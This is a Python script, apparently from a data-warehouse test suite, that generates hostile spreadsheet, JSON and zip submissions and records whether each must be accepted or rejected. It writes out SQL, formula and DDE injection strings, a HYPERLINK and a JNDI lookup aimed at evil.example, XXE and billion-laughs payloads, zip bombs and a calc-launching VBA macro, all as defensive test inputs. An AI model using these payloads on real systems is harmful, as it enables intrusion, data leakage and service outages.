"""Write the hostile-input corpus: broken, malicious and tricky submissions in all three carriers.

    .venv/bin/python tests/data/make_hostile.py [OUT]     # default: tests/data/hostile/

Every case says what the warehouse must do with it (accepted or rejected, and the exact set of
problem codes) and why it is in the corpus; `EXPECTED.csv` beside the files is that table, and
tests/test_reliability_hostile.py asserts it file by file. The small files are committed (the
output is byte-for-byte deterministic, and a test checks the committed files are what this
script writes); the giant ones (zip bombs, a 51 MiB JSON, 100,000 zip entries, a file name
that is not UTF-8) are written at test time by `write_giants`.

Accepted cases use real localities and the years 2001-2009, which no other test uses.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import xlsxwriter

from dxw.submission.writer import FIXED_TIMESTAMP, csv_bytes, write_json, write_xlsx, write_zip

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "hostile"
EXPECTED_NAME = "EXPECTED.csv"
#: Accepted cases report for Điện Biên (11), a province no other test uses.
LOCALITY = "Điện Biên"

#: Text that looks like SQL, spreadsheet formulas, template code or markup: stored verbatim.
INJECTIONS = (
    "'); drop table raw.submissions; --",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE raw.wifi_points;--",
    "1; select pg_sleep(30); --",
    "$$; drop schema raw cascade; $$",
    "\\copy raw.submissions to '/tmp/leak.csv'",
    "{{ env_var('DBT_ENV_SECRET_DXW_DBT_PASSWORD') }}",
    "{% do run_query('drop table raw.goals') %}",
    "<script>alert('xss')</script>",
    "${jndi:ldap://evil.example/a}",
    "'; update raw.indicators set value = 0; --",
    'x"; delete from audit.load_log; --',
)


@dataclass(frozen=True)
class Case:
    """One hostile file and what must become of it."""

    name: str
    outcome: str  # accepted | rejected
    codes: tuple[str, ...]  # every problem code expected (errors and warnings), sorted
    why: str
    write: Callable[[Path], None]
    message: str = ""  # a fragment that one problem's English message must contain

    @property
    def carrier(self) -> str:
        return self.name.rsplit(".", 1)[-1]


# -- documents ------------------------------------------------------------------------------------
def header(period: str, locality: str = LOCALITY, **fields: Any) -> dict[str, Any]:
    """A valid `submission` table for a period."""
    year = int(period[:4])
    out = {
        "locality": locality,
        "period": period,
        "submitted_on": date(year + 1, 1, 15),
        "agency": "Sở Thông tin và Truyền thông",
        "contact_email": "cds@dienbien.gov.vn",
        "framework": "09-NQ/TU",
    }
    out.update(fields)
    return out


def doc(period: str, **tables: Any) -> dict[str, Any]:
    """A valid submission with a header and the tables given."""
    return {"submission": header(period), **tables}


def wifi(count: int = 2, prefix: str = "DB") -> list[dict[str, Any]]:
    """Wi-Fi points in Điện Biên Phủ."""
    return [
        {
            "point_id": f"{prefix}-{n:03d}",
            "name": f"Điểm wifi {n}",
            "commune": "Phường Mường Thanh",
            "latitude": 21.38 + n / 1000,
            "longitude": 103.02 + n / 1000,
            "status": "active",
            "commissioned_on": date(2003, 5, 15),
        }
        for n in range(1, count + 1)
    ]


def every_text_field(period: str, texts: Iterator[str]) -> dict[str, Any]:
    """A valid submission with one of `texts` in every free-text field of every table."""
    sub = {
        "submission": header(
            period, agency=next(texts), framework=next(texts), contact_email="a'--@x.gov.vn"
        ),
        "indicators": [
            {"indicator_code": "plan_indicators_on_track", "value": 3, "note": next(texts)},
            {"indicator_code": "plan_indicators_total", "value": 23, "note": next(texts)},
        ],
        "wifi_points": [
            {
                "point_id": next(texts),
                "name": next(texts),
                "commune": next(texts),
                "latitude": 21.38 + n / 1000,
                "longitude": 103.02,
                "status": "active",
                "commissioned_on": date(2003, 5, 15),
            }
            for n in range(2)
        ],
        "network_links": [
            {
                "unit_name": next(texts),
                "unit_level": "district",
                "connected": True,
                "connected_on": date(2003, 3, 1),
                "bandwidth_mbps": 100,
            }
        ],
        "goals": [
            {
                "goal_code": next(texts),
                "pillar": "digital_government",
                "status": "achieved",
                "framework": next(texts),
                "title": next(texts),
                "target_year": 2025,
            }
        ],
        "goal_summary": [
            {
                "framework": next(texts),
                "pillar": "all",
                "goals_total": 1,
                "goals_achieved": 1,
                "goals_in_progress": 0,
                "reported_pct": 100,
            }
        ],
    }
    return sub


def injection_texts(offset: int) -> Iterator[str]:
    """The injection strings, starting at `offset`, cycling."""
    n = offset
    while True:
        yield INJECTIONS[n % len(INJECTIONS)]
        n += 1


def nfd(value: Any) -> Any:
    """Text (and keys) in decomposed form, recursively."""
    if isinstance(value, str):
        return unicodedata.normalize("NFD", value)
    if isinstance(value, dict):
        return {nfd(k): nfd(v) for k, v in value.items()}
    if isinstance(value, list):
        return [nfd(v) for v in value]
    return value


def cp1258(text: str) -> bytes:
    """Vietnamese text in Windows-1258: base letters precomposed, tone marks combining."""
    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    out = []
    for char in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
        out.append(base + "".join(c for c in parts if c in tones))
    return "".join(out).encode("cp1258")


# -- raw containers -----------------------------------------------------------------------------
def entry(name: str, *, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    """A zip entry with a fixed timestamp."""
    info = zipfile.ZipInfo(name, date_time=FIXED_TIMESTAMP.timetuple()[:6])
    info.compress_type = method
    return info


def zip_of(path: Path, entries: dict[str, bytes]) -> None:
    """A zip of raw entries (names kept exactly as given)."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(entry(name), data)


def submission_csv(period: str, **fields: Any) -> bytes:
    """The `submission.csv` of a zip."""
    head = header(period, **fields)
    return csv_bytes([["field", "value"], *[[k, v] for k, v in head.items()]])


def table_csv(rows: list[dict[str, Any]]) -> bytes:
    """A table as CSV bytes, header first."""
    columns = list(rows[0])
    return csv_bytes([columns, *[[r.get(c) for c in columns] for r in rows]])


def patch_part(path: Path, part: str, change: Callable[[bytes], bytes]) -> None:
    """Rewrite one part of a zip container (an xlsx) in place."""
    with zipfile.ZipFile(path) as archive:
        parts = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in parts:
            archive.writestr(info, change(data) if info.filename == part else data)


def ole_container(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (what Excel writes for an encrypted workbook).

    Version 3, 512-byte sectors; every stream is padded to 4096 bytes so none needs the mini
    stream: sector 0 is the FAT, sector 1 the directory, then the streams.
    """
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    data = [streams[n].ljust(max(4096, -(-len(streams[n]) // 512) * 512), b"\0") for n in names]
    fat = [fat_sector, end]
    starts = []
    for blob in data:
        count = len(blob) // 512
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [end]
    assert len(fat) <= 128, "one FAT sector"
    fat += [free] * (128 - len(fat))

    def dir_entry(name: str, kind: int, start: int, size: int, right: int, child: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0"
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kind,
            1,
            free,
            right,
            child,
            b"\0" * 16,
            0,
            0,
            0,
            start,
            size,
        )

    entries = [dir_entry("Root Entry", 5, end, 0, free, 1 if names else free)]
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else free
        entries.append(dir_entry(name, 2, starts[i], len(streams[name]), right, free))
    directory = b"".join(entries).ljust(512 * -(-len(entries) * 128 // 512), b"\0")
    assert len(directory) == 512, "one directory sector"
    head = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        1,
        1,
        0,
        4096,
        end,
        0,
        end,
        0,
    )
    head += struct.pack("<I", 0) + struct.pack("<108I", *([free] * 108))
    assert len(head) == 512
    return head + struct.pack("<128I", *fat) + directory + b"".join(data)


# -- xlsx helpers -------------------------------------------------------------------------------
def xlsx_book(
    path: Path,
    sheets: dict[str, list[list[Any]]],
    far: tuple[str, int, int, str] | None = None,
) -> None:
    """A workbook from grids; cells that are ("=formula", cached) tuples become formulas; `far`
    puts one more text cell (sheet, row, column, text) anywhere."""
    book = xlsxwriter.Workbook(str(path))
    book.set_properties({"created": FIXED_TIMESTAMP})
    day = book.add_format({"num_format": "dd/mm/yyyy"})
    for name, grid in sheets.items():
        sheet = book.add_worksheet(name)
        for r, values in enumerate(grid):
            for c, value in enumerate(values):
                if value is None:
                    continue
                if isinstance(value, tuple):
                    sheet.write_formula(r, c, value[0], None, value[1])
                elif isinstance(value, date):
                    sheet.write_datetime(r, c, value, day)
                elif isinstance(value, bool):
                    sheet.write_boolean(r, c, value)
                elif isinstance(value, int | float):
                    sheet.write_number(r, c, value)
                else:
                    sheet.write_string(r, c, value)
        if far and far[0] == name:
            sheet.write_string(far[1], far[2], far[3])
    book.close()


def header_grid(period: str, **fields: Any) -> list[list[Any]]:
    return [["field", "value"], *[[k, v] for k, v in header(period, **fields).items()]]


def grid(rows: list[dict[str, Any]]) -> list[list[Any]]:
    columns = list(rows[0])
    return [columns, *[[r.get(c) for c in columns] for r in rows]]


# -- the cases ----------------------------------------------------------------------------------
def _random_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _truncated(write: Callable[[Path], Any], fraction: float) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        write(path)
        data = path.read_bytes()
        path.write_bytes(data[: int(len(data) * fraction)])

    return make


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data) and None


def _json_text(text: str) -> Callable[[Path], None]:
    return lambda path: path.write_text(text, encoding="utf-8") and None


def _json_doc(document: dict[str, Any]) -> Callable[[Path], None]:
    return lambda path: write_json(document, path) and None


def _xlsx_doc(document: dict[str, Any]) -> Callable[[Path], None]:
    return lambda path: write_xlsx(document, path) and None


def _zip_doc(document: dict[str, Any], **options: Any) -> Callable[[Path], None]:
    return lambda path: write_zip(document, path, **options) and None


def _macro_workbook(path: Path) -> None:
    """An .xlsm (with a VBA project that would run `calc` on open) renamed .xlsx."""
    vba = path.with_suffix(".vbaProject.bin")
    vba.write_bytes(
        ole_container(
            {
                "dir": b'Attribute VB_Name = "Module1"\r\n',
                "Module1": b'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
            }
        )
    )
    try:
        book = xlsxwriter.Workbook(str(path))
        book.set_properties({"created": FIXED_TIMESTAMP})
        sheet = book.add_worksheet("submission")
        for r, row in enumerate(header_grid("2001-Q1")):
            for c, value in enumerate(row):
                if isinstance(value, date):
                    sheet.write_string(r, c, f"{value.day}/{value.month}/{value.year}")
                else:
                    sheet.write_string(r, c, str(value))
        book.add_vba_project(str(vba))
        book.close()
    finally:
        vba.unlink()


def _formulas(path: Path) -> None:
    """Formula cells: read as their cached values, never evaluated."""
    xlsx_book(
        path,
        {
            "submission": [
                ["field", "value"],
                ["locality", LOCALITY],
                ["period", "2001-Q2"],
                ["submitted_on", ("=DATE(2001,7,10)", "10/7/2001")],
                ["agency", ('="UBND "&"tỉnh Điện Biên"', "UBND tỉnh Điện Biên")],
            ],
            "indicators": [
                ["indicator_code", "value", "note"],
                [
                    "plan_indicators_on_track",
                    ("=1+2", 3),
                    ('=HYPERLINK("http://evil.example")', ""),
                ],
                ["plan_indicators_total", ("=SUM(20,3)", 23), "=SUM(A1:A9)"],
            ],
        },
    )


def _million_empty_rows_xlsx(path: Path) -> None:
    """One space in G1048576 makes the sheet 1,048,576 rows x 7 columns of (mostly) nothing."""
    sheets = {"submission": header_grid("2001-H2"), "wifi_points": grid(wifi(2, "MR"))}
    xlsx_book(path, sheets, far=("wifi_points", 1_048_575, 6, " "))


def _far_cell_xlsx(path: Path) -> None:
    """A 5 KB workbook whose only stray value sits in XFD1048576 (17 billion-cell grid)."""
    xlsx_book(
        path, {"submission": header_grid("2002-Q1")}, far=("submission", 1_048_575, 16_383, " ")
    )


def _cells_without_refs_xlsx(path: Path) -> None:
    """16,384 cells without `r` in one row, then a value in row 1,048,576: the same bomb."""
    write_xlsx(doc("2002-Q2"), path)

    def change(xml: bytes) -> bytes:
        wide = b'<row r="20">' + b"<c><v>1</v></c>" * 16_384 + b"</row>"
        far = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace(b"</sheetData>", wide + far + b"</sheetData>")

    patch_part(path, "xl/worksheets/sheet1.xml", change)


def _styled_far_cell_xlsx(path: Path) -> None:
    """An empty but formatted XFD1048576 (a common 'dirty' workbook): harmless, accepted."""
    book = xlsxwriter.Workbook(str(path))
    book.set_properties({"created": FIXED_TIMESTAMP})
    day = book.add_format({"num_format": "dd/mm/yyyy"})
    sheet = book.add_worksheet("submission")
    for r, row in enumerate(header_grid("2002-Q3")):
        for c, value in enumerate(row):
            if isinstance(value, date):
                sheet.write_datetime(r, c, value, day)
            else:
                sheet.write_string(r, c, value)
    sheet.write_blank(1_048_575, 16_383, None, book.add_format({"bold": True}))
    book.close()


def _xml_entities_xlsx(kind: str) -> Callable[[Path], None]:
    """Shared strings with an external entity (XXE) or an entity expansion bomb."""

    def make(path: Path) -> None:
        write_xlsx(doc("2002-Q4" if kind == "xxe" else "2002-07"), path)
        if kind == "xxe":
            prolog = (
                b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
                b'<!ENTITY web SYSTEM "http://127.0.0.1:9/leak">]>'
            )
            use = b"&xxe;&web;"
        else:
            defs = b'<!ENTITY a0 "ha ha ha ha ha ha ha ha ha ha">' + b"".join(
                b'<!ENTITY a%d "%s">' % (i, b"".join(b"&a%d;" % (i - 1) for _ in range(10)))
                for i in range(1, 10)
            )
            prolog = b"<!DOCTYPE sst [" + defs + b"]>"
            use = b"&a9;"

        def change(xml: bytes) -> bytes:
            head, _, rest = xml.partition(b"?>")
            rest = rest.replace(b"Th\xc3\xb4ng tin", use, 1)
            return head + b"?>" + prolog + rest

        patch_part(path, "xl/sharedStrings.xml", change)

    return make


def _invalid_xml_utf8(path: Path) -> None:
    write_xlsx(doc("2002-08"), path)
    patch_part(
        path, "xl/sharedStrings.xml", lambda xml: xml.replace(b"S\xe1\xbb\x9f", b"S\xff\xfe", 1)
    )


def _too_many_parts_xlsx(path: Path) -> None:
    write_xlsx(doc("2002-09"), path)
    with zipfile.ZipFile(path, "a") as archive:
        for n in range(1001):
            archive.writestr(entry(f"customXml/item{n}.xml"), b"<a/>")


def _forged_size_xlsx(path: Path) -> None:
    """A part whose central directory understates its size (a forged bomb)."""
    write_xlsx(doc("2002-10", wifi_points=wifi(300, "FS")), path)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet2.xml"
    at = data.find(b"PK\x01\x02")
    while at != -1:
        size = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + size]) == name:
            struct.pack_into("<L", data, at + 24, 100)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def _encrypted_xlsx(path: Path) -> None:
    info = (
        b"\x04\x00\x04\x00\x40\x00\x00\x00"
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns='
        b'"http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
        b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining='
        b'"ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b"</encryption>"
    )
    package = struct.pack("<Q", 9000) + _random_bytes(7, 9008)
    path.write_bytes(ole_container({"EncryptionInfo": info, "EncryptedPackage": package}))


def _legacy_xls(path: Path) -> None:
    path.write_bytes(ole_container({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 600}))


def _dup_sheets(path: Path) -> None:
    xlsx_book(
        path,
        {
            "submission": header_grid("2003-Q1"),
            "wifi_points": grid(wifi(1, "A")),
            "Điểm wifi": grid(wifi(1, "B")),
        },
    )


def _dup_columns_xlsx(path: Path) -> None:
    rows = [{**r, "mã điểm": r["point_id"]} for r in wifi(2, "DC")]
    xlsx_book(path, {"submission": header_grid("2003-Q2"), "wifi_points": grid(rows)})


def _header_only_xlsx(path: Path) -> None:
    xlsx_book(
        path,
        {
            "submission": header_grid("2003-Q3"),
            "wifi_points": [list(wifi(1)[0])],
            "goals": [["goal_code", "pillar", "status"]],
            "indicators": [["indicator_code", "value", "note"], [None, None, None]],
        },
    )


def _bad_dates(carrier: str, period: str) -> Callable[[Path], None]:
    sub = doc(
        period,
        wifi_points=wifi(3, "BD"),
        network_links=[{"unit_name": "Sở Y tế", "connected": "có", "connected_on": "0/1/2003"}],
    )
    sub["submission"]["submitted_on"] = "31/2/2022"
    sub["wifi_points"][0]["commissioned_on"] = "29/2/2003"
    sub["wifi_points"][1]["commissioned_on"] = "30/02/2004"
    sub["wifi_points"][2]["commissioned_on"] = "2003-02-31"
    writer = {"xlsx": write_xlsx, "json": write_json, "zip": write_zip}[carrier]
    return lambda path: writer(sub, path) and None


def _every_text(carrier: str, period: str, offset: int) -> Callable[[Path], None]:
    sub = every_text_field(period, injection_texts(offset))
    writer = {"xlsx": write_xlsx, "json": write_json, "zip": write_zip}[carrier]
    return lambda path: writer(sub, path) and None


def _locality(carrier: str, locality: str, period: str) -> Callable[[Path], None]:
    sub = {"submission": header(period, locality=locality)}
    writer = {"xlsx": write_xlsx, "json": write_json, "zip": write_zip}[carrier]
    return lambda path: writer(sub, path) and None


def _nfd_doc(period: str) -> dict[str, Any]:
    return {
        "Thông tin chung": nfd(
            {
                "Địa phương": LOCALITY,
                "Kỳ báo cáo": period,
                "Ngày báo cáo": date(int(period[:4]) + 1, 1, 15),
                "Cơ quan báo cáo": "Ủy ban nhân dân tỉnh Điện Biên",
            }
        ),
        nfd("Điểm wifi"): [
            nfd(
                {
                    "Mã điểm": f"NFD-{n}",
                    "Tên điểm": "Quảng trường Điện Biên Phủ",
                    "Phường, xã": "Phường Mường Thanh",
                    "Vĩ độ": 21.39,
                    "Kinh độ": 103.02,
                    "Trạng thái": "Đang hoạt động",
                }
            )
            for n in range(2)
        ],
        nfd("Mục tiêu"): [
            nfd({"Mã mục tiêu": "CQS-01", "Trục": "Chính quyền số", "Kết quả": "Đã đạt"})
        ],
    }


def _json_deep(depth: int, period: str) -> Callable[[Path], None]:
    head = json.dumps(
        {k: (f"{v:%Y-%m-%d}" if isinstance(v, date) else v) for k, v in header(period).items()},
        ensure_ascii=False,
    )
    text = '{"submission": ' + head + ', "wifi_points": ' + "[" * depth + "]" * depth + "}"
    return _json_text(text)


def _json_cp1258(path: Path) -> None:
    text = json.dumps({"submission": header("2004-Q2")}, ensure_ascii=False, default=str)
    path.write_bytes(cp1258(text))


def _json_invalid_utf8(path: Path) -> None:
    text = json.dumps({"submission": header("2004-Q3")}, ensure_ascii=False, default=str)
    path.write_bytes(text.encode().replace("Sở".encode(), b"S\xc3\x28"))


def _json_utf16(path: Path) -> None:
    text = json.dumps({"submission": header("2004-Q4")}, ensure_ascii=False, default=str)
    path.write_bytes(text.encode("utf-16"))


_HEAD_JSON = '"locality": "Điện Biên", "period": "{period}", "submitted_on": "15/1/2010"'


def _json_raw(period: str, tail: str, head_extra: str = "") -> Callable[[Path], None]:
    head = _HEAD_JSON.format(period=period) + head_extra
    return _json_text('{"submission": {' + head + "}" + tail + "}")


def _zip_symlink(path: Path) -> None:
    """A zip 'entry' that is a symbolic link to /etc/passwd: it is read as text, never followed."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(entry("submission.csv"), submission_csv("2007-Q1"))
        link = entry("wifi_points.csv", method=zipfile.ZIP_STORED)
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, b"/etc/passwd")


def _zip_encrypted_entry(path: Path) -> None:
    """wifi_points.csv flagged as encrypted (general purpose bit 0 in both headers)."""
    zip_of(
        path,
        {"submission.csv": submission_csv("2007-Q2"), "wifi_points.csv": _random_bytes(3, 200)},
    )
    data = bytearray(path.read_bytes())
    for sig, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig, data.find(sig) + 4)  # the second entry
        flags = struct.unpack_from("<H", data, at + flags_at)[0]
        struct.pack_into("<H", data, at + flags_at, flags | 1)
    path.write_bytes(bytes(data))


def _zip_forged_size(path: Path) -> None:
    """submission.csv inflates to 20 MB but says 200 bytes (and a CRC of nothing)."""
    body = submission_csv("2007-Q3") + b"#" * 20_000_000
    zip_of(path, {"submission.csv": body})
    data = bytearray(path.read_bytes())
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(sig)
        struct.pack_into("<L", data, at + size_at, 200)
    path.write_bytes(bytes(data))


def _zip_empty_rows(count: int, period: str) -> Callable[[Path], None]:
    """wifi_points.csv: two points, then `count` rows of nothing but separators."""

    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(entry("submission.csv"), submission_csv(period))
            with archive.open(entry("wifi_points.csv"), "w") as raw:
                raw.write(table_csv(wifi(2, "ER")))
                block = b",,,,,,\r\n" * 10_000
                for _ in range(count // 10_000):
                    raw.write(block)

    return make


def _zip_cells(period: str, rows: list[list[str]], name: str = "wifi_points.csv") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def cases() -> list[Case]:
    """Every small case of the corpus, in the order of EXPECTED.csv."""
    hh = ("2001", "2001-H1")
    out = [
        # ---------------------------------------------------------------- .xlsx
        Case(
            "x01_garbage.xlsx",
            "rejected",
            ("unreadable_file",),
            "random bytes named .xlsx",
            _bytes(_random_bytes(1, 4096)),
        ),
        Case("x02_empty.xlsx", "rejected", ("unreadable_file",), "an empty file", _bytes(b"")),
        Case(
            "x03_truncated.xlsx",
            "rejected",
            ("unreadable_file",),
            "a valid workbook cut at 60%",
            _truncated(_xlsx_doc(doc(hh[0], wifi_points=wifi())), 0.6),
        ),
        Case(
            "x04_zip_of_csv.xlsx",
            "rejected",
            ("unreadable_file",),
            "a zip of CSV files renamed .xlsx",
            _zip_doc(doc(hh[1])),
        ),
        Case(
            "x05_macro_xlsm.xlsx",
            "accepted",
            (),
            "an .xlsm with a VBA project (Sub AutoOpen: Shell calc) renamed .xlsx: cell values "
            "are read, the macro is never run nor stored in raw",
            _macro_workbook,
        ),
        Case(
            "x06_password_protected.xlsx",
            "rejected",
            ("unreadable_file",),
            "an encrypted (password-protected) workbook: an OLE container, EncryptedPackage",
            _encrypted_xlsx,
            "password-protected",
        ),
        Case(
            "x07_legacy_xls.xlsx",
            "rejected",
            ("unreadable_file",),
            "an Excel 97-2003 .xls (OLE container) renamed .xlsx",
            _legacy_xls,
            "97-2003",
        ),
        Case(
            "x08_formulas.xlsx",
            "accepted",
            (),
            "formula cells (=1+2, =DATE(), =HYPERLINK) read as their cached values, text "
            "'=SUM(A1:A9)' stored verbatim, nothing evaluated",
            _formulas,
        ),
        Case(
            "x09_duplicate_sheets.xlsx",
            "rejected",
            ("duplicate_table",),
            "sheets 'wifi_points' and 'Điểm wifi' both hold wifi_points",
            _dup_sheets,
        ),
        Case(
            "x10_duplicate_columns.xlsx",
            "rejected",
            ("duplicate_column",),
            "columns 'point_id' and 'mã điểm' in one sheet",
            _dup_columns_xlsx,
        ),
        Case(
            "x11_header_only.xlsx",
            "accepted",
            (),
            "tables with a header row and no data (and a row of blanks)",
            _header_only_xlsx,
        ),
        Case(
            "x12_million_empty_rows.xlsx",
            "accepted",
            (),
            "a space in G1048576: 1,048,576 rows x 7 columns, 2 of them data",
            _million_empty_rows_xlsx,
        ),
        Case(
            "x13_far_cell_bomb.xlsx",
            "rejected",
            ("too_many_rows",),
            "a space in XFD1048576: a 5 KB file asking for a 17-billion-cell grid (crashed the "
            "reader before the fix)",
            _far_cell_xlsx,
            "XFD1048576",
        ),
        Case(
            "x14_cells_without_refs_bomb.xlsx",
            "rejected",
            ("too_many_rows",),
            "16,384 cells without `r` in a row and a value in row 1,048,576",
            _cells_without_refs_xlsx,
        ),
        Case(
            "x15_formatted_far_cell.xlsx",
            "accepted",
            (),
            "an empty but formatted XFD1048576: calamine skips empty cells",
            _styled_far_cell_xlsx,
        ),
        Case(
            "x16_impossible_dates.xlsx",
            "rejected",
            ("invalid_date",),
            "31/2/2022, 29/2/2003, 30/02/2004, 2003-02-31, 0/1/2003 as text",
            _bad_dates("xlsx", "2003-Q4"),
            "31/2/2022",
        ),
        Case(
            "x17_injection_every_field.xlsx",
            "accepted",
            (),
            "SQL, formula, template and markup text in every free-text field",
            _every_text("xlsx", "2003-07", 0),
        ),
        Case(
            "x18_injection_locality.xlsx",
            "rejected",
            ("unknown_locality",),
            'locality = "\'); drop table raw.submissions; --"',
            _locality("xlsx", INJECTIONS[0], "2003-08"),
            "drop table raw.submissions",
        ),
        Case(
            "x19_nfd.xlsx",
            "accepted",
            (),
            "sheet names, column names, field names, locality and choices in NFD (decomposed)",
            _xlsx_doc(_nfd_doc("2003-09")),
        ),
        Case(
            "x20_merged_province_after.xlsx",
            "rejected",
            ("unknown_locality",),
            "Ninh Thuận reporting 2025-H2 (merged into Khánh Hòa on 1/7/2025)",
            _locality("xlsx", "Ninh Thuận", "2025-H2"),
            "Khánh Hòa",
        ),
        Case(
            "x21_xml_external_entity.xlsx",
            "rejected",
            ("unreadable_file",),
            "shared strings with a DOCTYPE declaring file:///etc/passwd and http:// entities",
            _xml_entities_xlsx("xxe"),
            "unrecognized entity",
        ),
        Case(
            "x22_xml_entity_expansion.xlsx",
            "rejected",
            ("unreadable_file",),
            "shared strings with a 'billion laughs' entity expansion",
            _xml_entities_xlsx("laughs"),
        ),
        Case(
            "x23_invalid_utf8_xml.xlsx",
            "rejected",
            ("unreadable_file",),
            "shared strings with bytes that are not UTF-8",
            _invalid_xml_utf8,
        ),
        Case(
            "x24_too_many_parts.xlsx",
            "rejected",
            ("zip_too_many_entries",),
            "a workbook of 1,011 parts (limit 1,000)",
            _too_many_parts_xlsx,
        ),
        Case(
            "x25_forged_part_size.xlsx",
            "rejected",
            ("zip_too_large",),
            "a sheet part that inflates to more than its declared 100 bytes",
            _forged_size_xlsx,
        ),
        Case(
            "x26_nul_in_text.xlsx",
            "rejected",
            ("invalid_encoding",),
            "agency with a NUL character (_x0000_): PostgreSQL cannot store it (crashed the "
            "loader before the fix)",
            _xlsx_doc(doc("2003-10") | {"submission": header("2003-10", agency="UBND\x00tỉnh")}),
            "NUL",
        ),
        Case(
            "x27_integer_overflow.xlsx",
            "rejected",
            ("out_of_range",),
            "goals_total 3,000,000,000 does not fit PostgreSQL integer (crashed the loader "
            "before the fix)",
            _xlsx_doc(
                doc(
                    "2003-11",
                    goal_summary=[
                        {"pillar": "all", "goals_total": 3_000_000_000, "goals_achieved": 1}
                    ],
                )
            ),
            "2,147,483,647",
        ),
        # ---------------------------------------------------------------- .json
        Case(
            "j01_garbage.json",
            "rejected",
            ("invalid_json",),
            "random bytes named .json",
            _bytes(_random_bytes(2, 4096)),
        ),
        Case("j02_empty.json", "rejected", ("invalid_json",), "an empty file", _bytes(b"")),
        Case(
            "j03_truncated.json",
            "rejected",
            ("invalid_json",),
            "a valid document cut in the middle",
            _truncated(_json_doc(doc("2004", wifi_points=wifi())), 0.5),
        ),
        Case(
            "j04_deep_50000.json",
            "rejected",
            ("json_too_deep",),
            "arrays nested 50,000 deep",
            _json_deep(50_000, "2004-H1"),
        ),
        Case(
            "j05_deep_17.json",
            "rejected",
            ("json_too_deep",),
            "nested 17 deep, one more than the limit",
            _json_deep(16, "2004-H2"),
        ),
        Case(
            "j06_not_an_object.json",
            "rejected",
            ("json_not_object",),
            "a top-level array",
            _json_text('[{"submission": {}}]'),
        ),
        Case(
            "j07_windows_1258.json",
            "rejected",
            ("invalid_json",),
            "Vietnamese text in Windows-1258, not UTF-8",
            _json_cp1258,
        ),
        Case(
            "j08_invalid_utf8.json",
            "rejected",
            ("invalid_json",),
            "a byte sequence that is not UTF-8",
            _json_invalid_utf8,
        ),
        Case(
            "j09_utf16.json",
            "accepted",
            (),
            "UTF-16 with BOM: Python's JSON reader detects it; documented as tolerated",
            _json_utf16,
        ),
        Case(
            "j10_duplicate_keys.json",
            "rejected",
            ("duplicate_column", "duplicate_field", "duplicate_table"),
            "a table key twice, a field twice (via its Vietnamese name), a column twice",
            _json_raw(
                "2005-Q1",
                ', "wifi_points": [], "wifi_points": [{"point_id": "A", "status": "active",'
                ' "point_id": "B"}]',
                ', "địa phương": "11"',
            ),
        ),
        Case(
            "j11_header_only.json",
            "accepted",
            (),
            "empty arrays and null tables",
            _json_raw("2005-Q2", ', "wifi_points": [], "goals": null, "indicators": []'),
        ),
        Case(
            "j12_impossible_dates.json",
            "rejected",
            ("invalid_date",),
            "31/2/2022 and friends",
            _bad_dates("json", "2005-Q3"),
            "31/2/2022",
        ),
        Case(
            "j13_injection_every_field.json",
            "accepted",
            (),
            "SQL, formula, template and markup text in every free-text field",
            _every_text("json", "2005-Q4", 5),
        ),
        Case(
            "j14_injection_locality.json",
            "rejected",
            ("unknown_locality",),
            "locality = '=HYPERLINK(...)'",
